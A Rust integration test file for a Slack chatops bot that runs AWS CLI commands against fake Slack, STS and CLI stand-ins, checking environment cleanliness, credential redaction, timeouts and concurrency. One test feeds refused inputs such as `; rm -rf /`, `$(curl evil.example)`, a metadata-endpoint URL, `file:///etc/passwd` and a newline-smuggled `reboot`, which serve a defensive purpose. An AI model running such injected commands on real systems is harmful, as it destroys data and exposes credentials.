//! `@bot aws …` end to end: the bot in this process against the fake Slack, the fake STS and a fake `aws` executable (a script written by `world.rs`, which records its argv and environment and prints canned output). Covers the clean environment, refusals and channels, long output as a file, the timeout kill, a failure's stderr, a missing CLI, the proxy route, credential renewal, the limit of runs at once, the audit trail, and credentials never leaking.

mod support;
#[path = "aws_commands/world.rs"]
mod world;

use std::collections::BTreeSet;
use std::time::Duration;

use chatops_bot::store::aws_runs::AwsRunOutcome;
use chatops_sandbox::slack::{envelopes, Target};
use support::*;
use world::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
    let w = world(None).await;
    let (reply, call) = w
        .ask(
            OPS,
            "ec2 describe-instances --region ap-northeast-2 --query 'Reservations[].Instances[?State.Name==`running`] | [0]'",
        )
        .await;
    assert_eq!(call.method, "chat.postMessage", "{reply}");
    assert!(
        call.params.get("thread_ts").is_some(),
        "in the thread: {reply}"
    );
    assert!(reply.contains("i-0abc123"), "the JSON is shown: {reply}");
    assert!(reply.contains("```"), "in a code block: {reply}");
    assert!(
        reply.contains("&lt;!channel&gt; web") && !reply.contains("<!channel>"),
        "inert: {reply}"
    );

    let runs = w.runs();
    assert_eq!(runs.len(), 1);
    let Run { argv, env, .. } = &runs[0];
    assert_eq!(
        argv,
        &[
            "ec2",
            "describe-instances",
            "--query",
            "Reservations[].Instances[?State.Name==`running`] | [0]",
            "--output",
            "json"
        ]
    );
    let issued = w.sts.issued();
    assert_eq!(issued.len(), 1);
    let get = |key: &str| env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str());
    assert_eq!(
        get("AWS_ACCESS_KEY_ID"),
        Some(issued[0].access_key_id.as_str())
    );
    assert_eq!(
        get("AWS_SECRET_ACCESS_KEY"),
        Some(issued[0].secret_access_key.as_str())
    );
    assert_eq!(
        get("AWS_SESSION_TOKEN"),
        Some(issued[0].session_token.as_str())
    );
    assert_eq!(get("AWS_REGION"), Some("ap-northeast-2"));
    assert_eq!(get("AWS_DEFAULT_REGION"), Some("ap-northeast-2"));
    assert_eq!(get("AWS_PAGER"), Some(""));
    assert_eq!(get("AWS_CONFIG_FILE"), Some("/dev/null"));
    assert_eq!(get("AWS_SHARED_CREDENTIALS_FILE"), Some("/dev/null"));
    let allowed: BTreeSet<&str> = [
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "AWS_REGION",
        "AWS_DEFAULT_REGION",
        "AWS_PAGER",
        "AWS_CLI_AUTO_PROMPT",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "AWS_EC2_METADATA_DISABLED",
        "HOME",
        "TMPDIR",
        "PATH",
        "LANG",
        // Set by /bin/sh itself.
        "PWD",
        "OLDPWD",
        "SHLVL",
        "_",
    ]
    .into();
    let extra: Vec<&str> = env
        .iter()
        .map(|(k, _)| k.as_str())
        .filter(|k| !allowed.contains(k))
        .collect();
    assert!(
        extra.is_empty(),
        "the child saw more than it should: {extra:?}"
    );
    // The bot's own credentials (support::aws_test_env: "test"/"test") signed AssumeRole and
    // never reached the child.
    assert!(env.iter().all(|(_, v)| v != "test"), "{env:?}");
    let call = &w.sts.calls()[0];
    assert_eq!(call.action, "AssumeRole");
    assert_eq!(call.role_arn.as_deref(), Some(ROLE));
    assert_eq!(call.session_name.as_deref(), Some("chatops-bot-U0ALICE"));
    assert_eq!(call.signed_by.as_deref(), Some("test"));

    // A second command reuses the cached credentials.
    let (_, _) = w.ask(OPS, "ec2 describe-instances").await;
    assert_eq!(w.sts.calls().len(), 1, "credentials are cached");
    let Run { argv, env, .. } = &w.runs()[1];
    assert_eq!(argv, &["ec2", "describe-instances", "--output", "json"]);
    assert!(
        env.contains(&("AWS_REGION".into(), "eu-west-1".into())),
        "the default region"
    );

    let (_, dir) = w.bot.stop_keeping_store().await;
    let audit = audit_of(dir.path(), 10).await;
    assert_eq!(audit.len(), 2);
    assert_eq!(audit[1].user, "U0ALICE");
    assert_eq!(audit[1].channel, OPS);
    assert_eq!(audit[1].region.as_deref(), Some("ap-northeast-2"));
    assert_eq!(audit[1].argv[..2], ["ec2", "describe-instances"]);
    assert!(matches!(
        audit[1].outcome,
        AwsRunOutcome::Exited {
            exit_code: Some(0),
            ..
        }
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refusals_and_channels_are_answered_privately_and_nothing_runs() {
    let w = world(None).await;
    let cases = [
        (
            OPS,
            "ec2 describe-instances; rm -rf /",
            "`;` is not allowed",
        ),
        (
            OPS,
            "ec2 describe-instances --instance-ids $(curl evil.example)",
            "`$` is not allowed",
        ),
        (
            OPS,
            "ec2 describe-instances --filters `id`",
            "only a `--query` value may hold it",
        ),
        (
            OPS,
            "ec2 describe-instances --endpoint-url http://169.254.169.254",
            "`--endpoint-url` is not allowed",
        ),
        (
            OPS,
            "ec2 describe-instances --filters file:///etc/passwd",
            "`file://` and `fileb://` are not allowed",
        ),
        (
            OPS,
            "ec2 describe-instances > /tmp/x",
            "`&gt;` is not allowed",
        ),
        (
            OPS,
            "secretsmanager get-secret-value --secret-id prod/db",
            "never run from chat",
        ),
        (
            OPS,
            "ec2 terminate-instances --instance-ids i-1",
            "not allowed in this channel",
        ),
        (
            EC2_ONLY,
            "lambda list-functions",
            "allowed here: `ec2 describe-*`",
        ),
        (
            ELSEWHERE,
            "ec2 describe-instances",
            "not enabled in this channel",
        ),
    ];
    for (channel, text, why) in cases {
        let (reply, call) = w.ask(channel, text).await;
        assert_eq!(call.method, "chat.postEphemeral", "{text}: {reply}");
        assert!(reply.contains(why), "{text}: expected {why:?} in {reply}");
    }
    let ten_kb = "i".repeat(10 * 1024);
    let (reply, _) = w
        .ask(
            OPS,
            &format!("ec2 describe-instances --instance-ids {ten_kb}"),
        )
        .await;
    assert!(reply.contains("10240 bytes long"), "{reply}");
    let (reply, _) = w
        .ask(OPS, "ec2 describe-instances --instance-ids \"i-1\nreboot\"")
        .await;
    assert!(reply.contains("U+000A"), "{reply}");
    assert!(w.runs().is_empty(), "nothing ran: {:?}", w.runs());
    assert!(w.sts.calls().is_empty(), "no role was assumed");

    // The per-channel allowlist lets its own operations through (and one code fence around
    // the command, typed to keep Slack from curling quotes, is not part of it).
    let (reply, call) = w.ask(EC2_ONLY, "`ec2 describe-instances`").await;
    assert_eq!(call.method, "chat.postMessage", "{reply}");
    assert_eq!(w.runs().len(), 1);

    let (_, dir) = w.bot.stop_keeping_store().await;
    let audit = audit_of(dir.path(), 20).await;
    assert_eq!(audit.len(), 13);
    let refused = audit
        .iter()
        .filter(|r| matches!(r.outcome, AwsRunOutcome::Refused { .. }))
        .count();
    assert_eq!(refused, 12);
    assert!(audit.iter().any(|r| r.channel == ELSEWHERE
        && matches!(&r.outcome, AwsRunOutcome::Refused { kind, .. } if kind == "channel_not_enabled")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn long_output_goes_to_a_file_slow_commands_are_killed_failures_show_stderr() {
    let w = world(None).await;
    let (reply, call) = w.ask(OPS, "ec2 describe-images").await;
    assert_eq!(call.method, "chat.postMessage", "{reply}");
    assert!(
        reply.contains("aws-ec2-describe-images.json") && reply.contains("cut at 1.0 MB"),
        "{reply}"
    );
    let uploads = w.slack.uploads();
    assert_eq!(uploads.len(), 1);
    assert_eq!(uploads[0].filename, "aws-ec2-describe-images.json");
    assert_eq!(uploads[0].bytes.len(), 1024 * 1024, "stdout capped at 1 MB");
    assert!(uploads[0].completed);
    let shared = uploads[0].shared_in.as_ref().expect("shared");
    assert_eq!(shared.channel, OPS);
    assert!(shared.thread_ts.is_some(), "in the thread");

    let (reply, _) = w.ask(OPS, "ec2 describe-regions").await;
    assert!(reply.contains("Stopped after 1s"), "{reply}");
    let run = w.records.join(format!("run-{}", w.runs()[1].pid));
    let grandchild: u32 = std::fs::read_to_string(run.join("grandchild"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    for pid in [w.runs()[1].pid, grandchild] {
        eventually(5 * SECOND, "the killed process group to be gone", || {
            gone(pid)
        })
        .await;
    }

    let (reply, _) = w.ask(OPS, "ec2 describe-volumes").await;
    assert!(reply.contains("exit 254"), "{reply}");
    assert!(
        reply.contains("UnauthorizedOperation") && reply.contains("&lt;!here&gt;"),
        "{reply}"
    );
    w.bot.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_cli_is_explained() {
    let w = world(Some("/nonexistent/bin/aws")).await;
    let (reply, _) = w.ask(OPS, "ec2 describe-instances").await;
    assert!(reply.contains("not installed"), "{reply}");
    assert!(reply.contains("getting-started-install.html"), "{reply}");
    w.bot.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_never_reach_slack_the_logs_or_the_store() {
    let w = world(None).await;
    let (reply, _) = w.ask(OPS, "ec2 describe-key-pairs").await;
    assert!(
        reply.contains("[redacted]"),
        "what the CLI printed of them is redacted: {reply}"
    );
    w.ask(OPS, "ec2 describe-instances").await;
    w.ask(OPS, "ec2 describe-volumes").await;
    let issued = w.sts.issued();
    assert!(!issued.is_empty());
    let slack_text: String = w
        .slack
        .calls()
        .iter()
        .map(|c| c.params.to_string())
        .collect();
    let (_, dir) = w.bot.stop_keeping_store().await;
    let store_bytes = read_all(dir.path());
    let log_text = String::from_utf8_lossy(&logs().lock().unwrap()).into_owned();
    assert!(
        log_text.contains("AWS CLI run."),
        "the audit line is logged"
    );
    for credentials in issued {
        for secret in [
            credentials.access_key_id,
            credentials.secret_access_key,
            credentials.session_token,
        ] {
            assert!(!slack_text.contains(&secret), "{secret} in Slack");
            assert!(!log_text.contains(&secret), "{secret} in the logs");
            assert!(
                !store_bytes
                    .windows(secret.len())
                    .any(|w| w == secret.as_bytes()),
                "{secret} in the store"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cli_goes_out_through_the_bots_proxy() {
    // The fakes are on 127.0.0.1, which NO_PROXY keeps direct; the CLI gets the same route.
    let overrides = [
        ("HTTPS_PROXY", "http://squid:pr0xy-pa55@proxy.internal:3128"),
        ("NO_PROXY", "127.0.0.1,localhost"),
    ];
    let w = world_with(None, &overrides).await;
    let (reply, _) = w.ask(OPS, "ec2 describe-instances").await;
    assert!(reply.contains("i-0abc123"), "{reply}");
    let Run { env, .. } = &w.runs()[0];
    let get = |key: &str| env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str());
    assert_eq!(
        get("HTTPS_PROXY"),
        Some("http://squid:pr0xy-pa55@proxy.internal:3128/")
    );
    assert_eq!(
        get("NO_PROXY"),
        Some("127.0.0.1,localhost,169.254.169.254,169.254.170.2,fd00:ec2::254")
    );
    assert_eq!(get("HTTP_PROXY"), None);
    let slack_text: String = w
        .slack
        .calls()
        .iter()
        .map(|c| c.params.to_string())
        .collect();
    assert!(!slack_text.contains("pr0xy-pa55"));
    w.bot.stop().await.unwrap();
    let log_text = String::from_utf8_lossy(&logs().lock().unwrap()).into_owned();
    assert!(
        !log_text.contains("pr0xy-pa55"),
        "the proxy password is never logged"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_are_renewed_before_they_expire_and_a_refused_role_is_reported() {
    let w = world(None).await;
    // Credentials that expire within 5 minutes are never used again: each run assumes anew.
    w.sts.set_lifetime(Some(Duration::from_secs(200)));
    w.ask(OPS, "ec2 describe-instances").await;
    w.ask(OPS, "ec2 describe-instances").await;
    assert_eq!(w.sts.calls().len(), 2);
    let runs = w.runs();
    assert_ne!(
        runs[0].env, runs[1].env,
        "the second run has the new credentials"
    );

    w.sts.set_lifetime(None);
    w.sts.set_access_denied(true);
    let (reply, call) = w.ask(OPS, "ec2 describe-instances").await;
    assert_eq!(call.method, "chat.postEphemeral", "{reply}");
    assert!(
        reply.contains("AWS STS (aws_commands.role_arn) failed"),
        "{reply}"
    );
    assert_eq!(w.runs().len(), 2, "nothing ran without credentials");

    let (_, dir) = w.bot.stop_keeping_store().await;
    let audit = audit_of(dir.path(), 10).await;
    assert!(
        matches!(&audit[0].outcome, AwsRunOutcome::Failed { kind, .. } if kind == "credentials"),
        "{:?}",
        audit[0]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn at_most_four_commands_run_at_once() {
    let w = world(None).await;
    // Five slow commands at once (each runs until the 1 s timeout kills it): one is refused.
    let before = w.slack.calls().last().map_or(0, |c| c.seq);
    for _ in 0..5 {
        let mention = envelopes::app_mention(OPS, "U0ALICE", "<@U0BOT> aws ec2 describe-regions");
        w.slack.send(Target::Any, mention).await.unwrap();
    }
    let replies = || {
        w.slack
            .calls()
            .into_iter()
            .filter(|c| c.seq > before)
            .filter(|c| matches!(c.method.as_str(), "chat.postMessage" | "chat.postEphemeral"))
            .map(|c| c.params.to_string())
            .collect::<Vec<_>>()
    };
    eventually(10 * SECOND, "five replies", || replies().len() == 5).await;
    let replies = replies();
    let busy = replies
        .iter()
        .filter(|r| r.contains("already running"))
        .count();
    let stopped = replies
        .iter()
        .filter(|r| r.contains("Stopped after 1s"))
        .count();
    assert_eq!((busy, stopped), (1, 4), "{replies:#?}");
    assert_eq!(w.runs().len(), 4);
    w.bot.stop().await.unwrap();
}
